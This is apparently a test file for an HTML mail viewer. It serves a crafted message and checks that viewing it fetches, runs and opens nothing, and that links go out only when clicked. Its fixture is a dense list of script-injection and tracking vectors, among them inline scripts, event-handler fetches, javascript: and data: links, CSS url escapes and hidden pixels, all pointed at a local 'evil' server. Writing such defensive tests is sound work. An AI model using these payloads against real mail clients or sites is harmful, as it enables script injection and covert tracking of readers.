// A mail with everything in it that could act, fetch or lead astray does nothing, however it is looked at.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { House, browser, page, until } from "./house.mjs";
import { librarian, peers } from "./model.mjs";

let chromium, stubs, house, evil, url;
const asked = [];

/** Everything that mail has ever been made of to act behind its reader's back. */
const hostile = () => `<html><head>
<meta http-equiv="refresh" content="0;url=${url}/refresh">
<base href="${url}/">
<link rel="stylesheet" href="${url}/link.css"><link rel="prefetch" href="${url}/prefetch"><link rel="dns-prefetch" href="${url}">
<style>@import url("${url}/import.css"); body { background: url("${url}/style.png"); } @font-face { font-family: x; src: url("${url}/font.woff"); } p { font-family: x; }</style>
<script src="${url}/script.js"></script><script>fetch("${url}/fetch"); parent.document.title = "taken"; alert(1);</script>
</head><body onload="fetch('${url}/onload')" background="${url}/background.png">
<p id="words">Dear desk, <b>please pay</b>.</p>
<img src="${url}/pixel.gif" width="1" height="1" alt="a picture"><img src="x" onerror="fetch('${url}/onerror')"><img srcset="${url}/srcset.png 2x">
<picture><source srcset="${url}/source.png"><img src="${url}/picture.png"></picture>
<svg onload="fetch('${url}/svg')"><image href="${url}/svg.png"/><use href="${url}/use.svg#a"/><a xlink:href="javascript:fetch('${url}/svg-link')"><text y="20">svg</text></a><foreignObject><iframe src="${url}/foreign"></iframe></foreignObject></svg>
<iframe src="${url}/iframe"></iframe><iframe srcdoc="<script>fetch('${url}/srcdoc')</script>"></iframe>
<object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio>
<p style="background-image: url(${url}/inline.png)">styled</p><p style="background-color: u\\72l(${url}/escaped.png)">styled</p><div style="list-style: url(${url}/list.png)">styled</div>
<table background="${url}/table.png"><tr><td background="${url}/cell.png">cell</td></tr></table>
<form action="${url}/form" method="post"><input name="password" autofocus onfocus="fetch('${url}/focus')"><button formaction="${url}/button">Sign in</button></form>
<a href="${url}/link" target="_top">your bank</a> <a href="${url}/ping" ping="${url}/pinged" target="_blank">another</a>
<a href="javascript:fetch('${url}/javascript')">script</a> <a href="data:text/html,<script>fetch('${url}/data')</script>">data</a> <a href="/sign-out">out</a>
<details open ontoggle="fetch('${url}/toggle')"><summary>more</summary></details><marquee onstart="fetch('${url}/marquee')">x</marquee>
</body></html>`;

before(async () => {
  evil = createServer((request, answer) => {
    asked.push(`${request.method} ${request.url} from ${request.headers.referer ?? "nowhere"}`);
    answer.setHeader("access-control-allow-origin", "*");
    answer.end("<title>evil</title>");
  });
  await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${evil.address().port}`;
  [chromium, stubs] = await Promise.all([browser(), peers(librarian)]);
  house = await new House({ peers: stubs }).start();
  house.mail("hostile", {
    subject: `<script>fetch("${url}/subject")</script>`,
    from: `"<img src=${url}/from>" <ada@a.example>`,
    headers: ["MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8"],
    text: hostile(),
  });
  await house.held();
});
after(async () => {
  evil.close();
  evil.closeAllConnections();
  stubs?.stop();
  await chromium?.close();
  await house?.stop();
});

/** Looks at a page for long enough that what acts would have acted. */
async function look(tab, path) {
  await tab.goto(path);
  await tab.waitForLoadState("networkidle").catch(() => {});
}

test("nothing is fetched, run or left by looking at it", async () => {
  const tab = await page(chromium, house);
  const troubles = [];
  tab.on("dialog", (dialog) => { troubles.push(`dialog ${dialog.message()}`); dialog.dismiss(); });
  tab.context().on("page", (other) => troubles.push(`a window ${other.url()}`));
  for (const path of ["/", "/threads/1", "/drafts/1", "/mails/1", "/aside", "/audit"]) await look(tab, path);
  await tab.goto("/mails/1?view=formatted");
  const frame = tab.frameLocator("iframe.mail");
  await frame.getByText("please pay").waitFor();
  assert.equal(await frame.locator("b").innerText(), "please pay");
  const left = "script, style:not(head style), link, meta[http-equiv], base, iframe, object, embed, form, input, button, svg, video, audio, source, [onerror], [onload], [src], [srcset], [background], [target]";
  assert.equal(await frame.locator(left).count(), 0);
  const links = frame.locator("a");
  for (let at = 0; at < (await links.count()); at += 1) await links.nth(at).click({ force: true });
  for (let at = 0; at < (await links.count()); at += 1) await links.nth(at).click({ force: true, button: "middle" });
  await tab.keyboard.press("Tab");
  await tab.keyboard.press("Enter");
  await look(tab, "/mails/1/frame");
  assert.ok(tab.url().startsWith(house.url), tab.url());
  assert.deepEqual(asked, []);
  assert.deepEqual(troubles, []);
});

test("a link says where it leads, and leads there when it is asked to", async () => {
  const tab = await page(chromium, house);
  await tab.goto("/mails/1?view=formatted");
  await tab.frameLocator("iframe.mail").getByText("your bank").waitFor();
  const listed = tab.locator("ol.links summary");
  assert.equal(await listed.count(), 2, "only what leads somewhere is listed");
  assert.match(await listed.first().innerText(), /^127\.0\.0\.1 /);
  await listed.first().click();
  assert.deepEqual(asked, []);
  const [other] = await Promise.all([tab.context().waitForEvent("page"), tab.getByRole("link", { name: /^Open 127/ }).first().click()]);
  await other.waitForLoadState();
  await until("the visit", () => asked.length > 0);
  assert.equal(asked[0], "GET /link from nowhere");
  assert.equal(await other.evaluate(() => opener), null);
});
